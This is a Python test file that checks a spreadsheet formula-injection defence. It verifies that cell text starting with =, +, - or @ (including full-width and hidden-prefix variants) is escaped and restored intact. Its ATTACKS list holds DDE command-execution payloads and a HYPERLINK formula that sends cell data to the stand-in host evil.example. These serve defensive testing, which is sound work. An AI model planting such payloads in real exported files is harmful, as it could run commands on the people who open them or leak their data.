"""No cell of ours is run by a spreadsheet, and none is changed by going there and back."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from desktop.exchange.formulas import defused, restored

RUN = "=+-@＝＋－＠﹢﹣﹦﹫"
BEGINNINGS = ["", " ", "  ", "\u00a0", "\ufeff", "\u3000", "\u200b", '"', ' "', "'", "''"]
TEXTS = st.text(st.sampled_from("=+-@＝'\" \t\n\r\u2028\ufeff19.,%eEax"), max_size=12)

ATTACKS = [
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"Prices")',
    "=WEBSERVICE(A1)",
    "=IMPORTXML(A1)",
    "-1 + cmd",
    "+1 calm",
    "1\n=2",
    "a\t=2",
    "a\r=2",
    "a\u2028=2",
    "a\x0b=2",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_would_be_run_is_text(attack):
    assert "'" in defused(attack)
    assert restored(defused(attack)) == attack


@pytest.mark.parametrize("beginning", BEGINNINGS)
@pytest.mark.parametrize("letter", RUN)
def test_nothing_before_it_hides_it(beginning, letter):
    assert defused(f"{beginning}{letter}A1") == f"'{beginning}{letter}A1"


@pytest.mark.parametrize(
    "number", ["0", "1", "-1", "+1", "-1.5", "+0,5", "-1,234.50", "1e6", "-1e-5", "-.5", "- 5 %", "-7%"]
)
def test_numbers_stay_numbers(number):
    assert defused(number) == number


@pytest.mark.parametrize("text", ["", "Waits", "a = b", "5 > 3", "mail@example.com", "“=”", "'tis", "(=1)", "−1 sad"])
def test_other_texts_stay_as_they_are(text):
    assert restored(text) == defused(text) == text


@given(TEXTS)
def test_every_text_comes_back_as_it_was(text):
    assert restored(defused(text)) == text


@given(TEXTS)
def test_no_line_begins_with_what_is_run(text):
    for line in defused(text).replace("\t", "\n").replace("\r", "\n").replace("\u2028", "\n").split("\n"):
        cell = line.strip(' "\ufeff')
        assert not cell.startswith(tuple(RUN)) or not set(cell) - set('+-0123456789., %eE\ufeff"')


@given(st.text(max_size=200))
def test_any_text_comes_back_as_it_was(text):
    assert restored(defused(text)) == text
